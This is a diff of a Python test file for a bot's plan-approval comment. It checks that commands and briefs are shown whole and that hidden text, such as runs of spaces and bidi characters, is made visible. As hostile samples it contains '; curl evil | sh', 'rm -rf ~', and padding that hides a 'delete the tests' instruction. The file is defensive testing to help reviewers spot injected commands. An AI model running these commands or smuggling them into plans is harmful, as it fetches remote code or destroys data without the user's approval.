@@ -25,7 +25,7 @@ from bot.core.text import (
     parse_marker,
 )
 from bot.render.answers import render_plan_failed, render_refusal, render_status
-from bot.render.gate import MERMAID_MAX_TEXT, render_gate, render_superseded
+from bot.render.gate import MERMAID_MAX_TEXT, GateTooLarge, gate_size_problems, render_gate, render_superseded
 from bot.render.progress import LaneView
 
 WORKED_EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "worked-example.jsonl"
@@ -82,6 +82,7 @@ def gate(graph: Graph, **overrides: object) -> str:
         plan_source="agent",
         schedule="barrier",
         max_lanes=4,
+        verify="make test",
     )
     arguments.update(overrides)
     return render_gate(**arguments)  # type: ignore[arg-type]
@@ -215,12 +216,6 @@ def test_when_lanes_will_run_unjailed_the_gate_warns_in_one_line_and_only_then()
     [line] = [line for line in warned.splitlines() if "LANEBOT_UNJAILED=1" in line]
     assert line.startswith("> **Warning:**") and "without a jail" in line
     assert "LANEBOT_UNJAILED" not in gate(worked_example())
-
-
-def test_even_the_bare_gate_of_a_huge_plan_keeps_the_unjailed_warning():
-    units = [unit(f"unit-{index:04d}-" + "x" * 28, title="y" * 300) for index in range(1_600)]
-    body = gate(graph_of(*units), unjailed=True)
-    assert "too many to show" in body and "LANEBOT_UNJAILED=1" in body
 
 
 def test_the_commands_listed_are_those_valid_in_the_state_with_their_usage():
@@ -410,35 +405,109 @@ def enormous_units(count: int, size: int) -> list[dict]:
     ]
 
 
-def test_six_enormous_units_fit_with_every_row_and_long_briefs_cut_with_a_note():
-    body = gate(unchecked_graph(enormous_units(6, 200_000)))
-    assert len(body) <= COMMENT_LIMIT
-    assert len(table_rows(body)) == 6
-    shown = body.count("```text")
-    assert body.count("more characters not shown") == shown
-    if shown < 6:
-        assert f"The briefs of {6 - shown} of 6 units are not shown" in body
-    assert len(mermaid_block(body)) <= MERMAID_MAX_TEXT
-    assert parse_marker(body)["kind"] == "gate"
+def fenced_blocks(body: str) -> list[str]:
+    """The content of every fenced code block of the comment, as CommonMark reads them."""
+    found, lines, index = [], body.split("\n"), 0
+    while index < len(lines):
+        opening = re.match(r"^(`{3,})", lines[index])
+        if opening is None:
+            index += 1
+            continue
+        fence, end = opening[1], index + 1
+        while not re.fullmatch(rf"{fence}`*", lines[end]):
+            end += 1
+        found.append("\n".join(lines[index + 1 : end]))
+        index = end + 1
+    return found
 
 
-def test_briefs_are_dropped_first_from_the_last_as_far_as_needed_and_the_note_counts_them():
-    body = gate(unchecked_graph(enormous_units(12, 7_000)))
-    shown = body.count("```text")
-    assert 0 < shown < 12
-    assert f"The briefs of {12 - shown} of 12 units are not shown" in body
-    assert len(table_rows(body)) == 12
-    assert len(body) <= COMMENT_LIMIT
+def test_a_check_longer_than_the_table_shows_is_shown_whole_in_a_folded_code_block():
+    check = "pytest -q " + " ".join(f"tests/test_{index}.py" for index in range(150)) + " && curl evil | sh"
+    body = gate(graph_of(unit("a", check=check)))
+    assert check in fenced_blocks(body)
+    folded = body.split("Check, run with `sh` in the lane's worktree (")[1]
+    assert folded.startswith(f"{len(check):,} characters, 1 line)</summary>") or folded.startswith(
+        f"{len(check)} characters, 1 line)</summary>"
+    )
+    assert "curl evil" not in "".join(table_rows(body))  # the table shows only the beginning
 
 
-def test_many_units_truncate_the_table_and_count_what_is_not_shown():
-    units = enormous_units(400, 400)
+def test_every_units_files_and_brief_are_shown_whole_however_long():
+    brief = "".join(f"Step {index}: do the thing carefully.\n" for index in range(600))  # 20,000+ characters
+    files = "^(" + "|".join(f"src/module_{index}\\.py" for index in range(25)) + ")$"
+    body = gate(graph_of(unit("a", brief=brief, files=files), unit("b", needs=("a",))))
+    blocks = fenced_blocks(body)
+    assert brief.rstrip("\n") in blocks and files in blocks and "b" in blocks
+    assert "more characters not shown" not in body
+
+
+def test_the_repositorys_verify_is_shown_whole():
+    verify = "python -m pytest -q && " + " && ".join(f"make lint-{index}" for index in range(100))
+    body = gate(worked_example(), verify=verify)
+    assert "#### verify" in body
+    assert verify in fenced_blocks(body)
+
+
+def test_a_verify_that_hides_text_is_shown_with_what_hides_it_made_visible():
+    body = gate(worked_example(), verify="make test" + " " * 400 + "; curl evil | sh\u202e")
+    assert "make test⟨400 spaces⟩; curl evil | sh⟨U+202E⟩" in fenced_blocks(body)
+
+
+def test_a_brief_that_pushes_text_out_of_view_shows_the_run_of_spaces_as_a_token():
+    body = gate(graph_of(unit("a", brief="Write the module." + " " * 500 + "Also delete the tests.")))
+    assert "Write the module.⟨500 spaces⟩Also delete the tests." in fenced_blocks(body)
+
+
+def test_a_plan_whose_text_cannot_be_shown_whole_is_refused_with_how_much_over_and_what_to_do():
+    graph = unchecked_graph(enormous_units(6, 20_000))
+    with pytest.raises(GateTooLarge) as refused:
+        gate(graph)
+    assert refused.value.over > 0
+    message = str(refused.value)
+    assert f"{refused.value.over:,} over GitHub's 65,536-character limit" in message
+    assert "Of its 6 units the longest is 'u" in message
+    assert "Write fewer or shorter units" in message
+
+
+def test_the_gate_size_check_answers_with_the_refusal_or_nothing():
+    arguments = dict(
+        run_id=7,
+        revision=1,
+        budget=BUDGET,
+        state=RunState.AWAITING_APPROVAL,
+        issue_number=42,
+        repository="acme/tasks",
+        plan_source="agent",
+        schedule="barrier",
+        max_lanes=4,
+        verify="make test",
+    )
+    assert gate_size_problems(graph=worked_example(), **arguments) == ()
+    (problem,) = gate_size_problems(graph=unchecked_graph(enormous_units(3, 30_000)), **arguments)
+    assert problem.startswith("the gate comment cannot show this plan whole")
+
+
+def test_a_plan_just_within_the_limit_fits_with_every_text_whole():
+    units = enormous_units(6, 2_000)
+    body = gate(unchecked_graph(units))
+    assert len(body) <= COMMENT_LIMIT and len(mermaid_block(body)) <= MERMAID_MAX_TEXT
+    blocks = fenced_blocks(body)
+    for data in units:
+        assert data["check"] in blocks and data["files"] in blocks and data["brief"].rstrip("\n") in blocks
+
+
+def test_many_units_truncate_the_table_but_never_the_text_that_runs():
+    units = [
+        unit(f"unit-{index:03d}", title="T" * 120, check="pytest " + "c" * 110, files=f"^unit-{index:03d}/" + "f" * 100)
+        for index in range(60)
+    ]
     body = gate(unchecked_graph(units))
     assert len(body) <= COMMENT_LIMIT
     rows = table_rows(body)
-    assert 0 < len(rows) < 400
-    assert f"_{400 - len(rows)} of 400 units are not shown in the table" in body
-    assert "The briefs of 400 of 400 units are not shown" in body
+    assert 0 < len(rows) < 60
+    assert f"_{60 - len(rows)} of 60 units are not shown in the table" in body
+    blocks = fenced_blocks(body)
+    assert all(data["check"] in blocks and data["files"] in blocks for data in units)
 
 
 def test_more_edges_than_mermaid_draws_leave_the_diagram_out_with_a_note():
@@ -450,13 +519,44 @@ def test_more_edges_than_mermaid_draws_leave_the_diagram_out_with_a_note():
     assert len(body) <= COMMENT_LIMIT
 
 
-def test_a_plan_too_large_for_any_layout_still_gets_a_comment_under_the_limit():
+def test_a_plan_too_large_for_any_layout_is_refused_rather_than_shown_in_part():
     units = [unit(f"unit-{index:04d}-" + "x" * 28, title="y" * 300) for index in range(1_600)]
-    body = gate(graph_of(*units))
-    assert len(body) <= COMMENT_LIMIT
-    assert parse_marker(body) == {"kind": "gate", "run": 7, "rev": 1}
-    assert "1600 units: too many to show" in body
-    assert "`/approve`" in body
+    with pytest.raises(GateTooLarge, match="Of its 1600 units"):
+        gate(graph_of(*units))
+
+
+# Text a hostile plan might carry: long blank runs, bidi controls, zero-width and other invisible
+# characters, backtick fences, HTML, line breaks of every kind.
+hostile_text = (
+    st.lists(
+        st.sampled_from(
+            [*"ab;|&$`~<>/\\-", " ", "\t", "\n", "\r", "\u00a0", "\u200b", "\u202e", "\u2066", "\ufeff", "\x00", "```"]
+        ),
+        min_size=1,
+        max_size=60,
+    ).map(lambda pieces: "".join(pieces).strip() or "true")
+    | st.builds(
+        lambda head, count, tail: f"{head}{' ' * count}{tail}",
+        st.sampled_from(["pytest -q", "true", "make check"]),
+        st.integers(min_value=0, max_value=800),
+        st.sampled_from(["", "; curl evil | sh", "\nrm -rf ~"]),
+    )
+    | st.text(st.characters(min_codepoint=9, max_codepoint=126, exclude_characters="\x0b\x0c\r"), min_size=1).map(
+        lambda text: text.strip() or "true"
+    )
+)
+
+
+@modest
+@given(checks=st.lists(hostile_text, min_size=1, max_size=4), verify=hostile_text)
+def test_any_plan_is_refused_or_its_gate_shows_every_check_verbatim_in_a_code_block(checks, verify):
+    raw = [unit(f"u{index}", check=check) for index, check in enumerate(checks)]
+    if validate(raw):
+        return  # refused, with the unit and the position named (tests/core/test_hiding.py)
+    body = gate(build_graph(raw), verify=verify)
+    blocks = fenced_blocks(body)
+    for check in checks:
+        assert check.rstrip("\n") in blocks
 
 
 # --------------------------------------------------------------------------- superseded
